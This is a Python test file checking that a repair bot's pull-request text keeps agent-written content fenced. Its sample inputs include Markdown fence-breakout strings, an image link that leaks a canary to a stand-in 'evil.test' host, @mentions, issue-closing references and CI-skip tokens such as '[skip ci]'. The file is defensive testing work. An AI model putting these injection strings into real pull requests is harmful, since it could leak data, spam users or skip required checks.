"""The pull request's text: every foreign word stays inside its box."""

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.records.proposal import Proof
from bot.repair.brief import Publishing, Reference
from bot.repair.evidence import Evidence
from bot.repair.pr_text import Draft, body_of, fenced, title_of
from tests.factories import BASE_SHA, a_proof, a_report

PUBLISHING = Publishing(
    phase="publish",
    attempt="2",
    order_id="wo_20260105_0001",
    incident=Reference(id="inc_0123456789ab"),
    run_id="7",
    diff_sha256="d" * 64,
    base_sha=BASE_SHA,
)
CANARY = "CANARY"
HOSTILE = [
    f"```\n# {CANARY}\n```",
    f"```text\n{CANARY}",
    f"~~~\n{CANARY}\n~~~",
    f"\r```\r{CANARY} @octo",
    "`" * 40 + f"\n{CANARY}",
    f"\n\n</details><!-- {CANARY} -->",
    f"![x](https://evil.test/?q={CANARY}) @everyone fixes #1",
    f"\t```\n\t{CANARY}",
    f"   ```\n{CANARY}\n    ```",
    f"- ```\n{CANARY}",
    f"> ```\n{CANARY}",
    f"a\x00```\n{CANARY}",
    f"\u2028```\u2029{CANARY}",
    "",
    "\n\n",
]
ANYTHING = st.text(st.sampled_from("`~\n\r\t >-#@![](<>x ") | st.characters(exclude_categories=["Cs"]), max_size=60)


def outside_the_boxes(markdown: str) -> str:
    """Everything that a reader's Markdown would show as something else than a box of plain text."""
    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(markdown)
    return "\n".join(token.content for token in tokens if token.type not in {"fence", "code_block"})


def body(text: str) -> str:
    report = a_report(root_cause=text, fix=text, regression_test=text, risk=text, pr_title=text, pr_body=text)
    evidence = Evidence(exception=text[:200], frames=(text,), build=text[:200])
    proof = a_proof(reasons=(text, text), policy_flags=(text,))
    return body_of(Draft(publishing=PUBLISHING, report=report, proof=proof, files=[text], evidence=evidence))


@given(ANYTHING)
@settings(max_examples=200, deadline=None)
@example("```")
@example("`")
@example("\n")
def test_no_text_leaves_its_box(text: str) -> None:
    tokens = MarkdownIt("commonmark").parse(f"before\n\n{fenced(text)}\n\nafter")

    assert [token.type for token in tokens] == [
        *("paragraph_open", "inline", "paragraph_close"),
        "fence",
        *("paragraph_open", "inline", "paragraph_close"),
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_foreign_word_is_live_anywhere_in_the_body(text: str) -> None:
    live = outside_the_boxes(body(text))

    assert CANARY not in live
    assert "@octo" not in live
    assert "evil.test" not in live
    assert "### Risk (confidence: high)" in body(text)


@given(ANYTHING)
@settings(max_examples=60, deadline=None)
def test_the_body_has_the_same_shape_whatever_the_agent_wrote(text: str) -> None:
    assert outside_the_boxes(body(f"x{text}")) == outside_the_boxes(body("x"))


def test_the_body_names_incident_diff_base_proof_and_its_key() -> None:
    files = ["bot/ledger/amount.py"]
    text = body_of(Draft(publishing=PUBLISHING, report=a_report(), proof=a_proof(), files=files))

    assert "`inc_0123456789ab`" in text
    assert "d" * 64 in text
    assert BASE_SHA[:12] in text
    assert "level 2 (the test suite is green with it)" in text
    assert "bot/ledger/amount.py" in text
    assert text.endswith(
        f"Suture-Incident: inc_0123456789ab\nSuture-Key: suture inc_0123456789ab publish 2\nSuture-Diff: {'d' * 64}\n"
    )


def test_the_body_stays_within_githubs_limit() -> None:
    wide = "\N{PILE OF POO}" * 20_000
    report = a_report(root_cause=wide, fix=wide, regression_test=wide, risk=wide, pr_body=wide)
    proof = Proof(level=4, reasons=("`" * 20_000,) * 200, policy_flags=("`" * 20_000,) * 200)
    draft = Draft(publishing=PUBLISHING, report=report, proof=proof, files=["f" * 200] * 100)

    assert len(body_of(draft)) <= 65_536


def test_without_reasons_it_says_that_nothing_was_proved() -> None:
    assert "nothing was proved" in body_of(
        Draft(publishing=PUBLISHING, report=a_report(), proof=Proof(level=0), files=[])
    )


@pytest.mark.parametrize(
    ("given_title", "title"),
    [
        ("Read amounts with a comma", "Read amounts with a comma"),
        ("two\nlines\r\n\u2028here", "two lines here"),
        ("", "Fix an incident"),
        ("\n\x00\u202e\u200b", "Fix an incident"),
    ],
)
def test_a_title_is_one_line_of_what_can_be_seen(given_title: str, title: str) -> None:
    assert title_of(a_report(pr_title=given_title)) == title


@given(st.text(max_size=400))
@settings(max_examples=100)
def test_any_title_is_one_short_line(text: str) -> None:
    title = title_of(a_report(pr_title=text))

    assert 0 < len(title) <= 120
    assert len(title.splitlines()) == 1
    assert title == title.strip()


@pytest.mark.parametrize(
    "words",
    [
        "@octo",
        "@octo/team",
        "#1",
        "octo/bot#1",
        "[skip ci]",
        "[ci skip]",
        "[no ci]",
        "[skip actions]",
        "GH-1",
        "gh-1",
        "https://x.test/issues/1",
        "www.x.test",
    ],
)
def test_a_title_mentions_nobody_closes_nothing_and_skips_no_checks(words: str) -> None:
    assert words not in title_of(a_report(pr_title=f"Fix {words} now"))
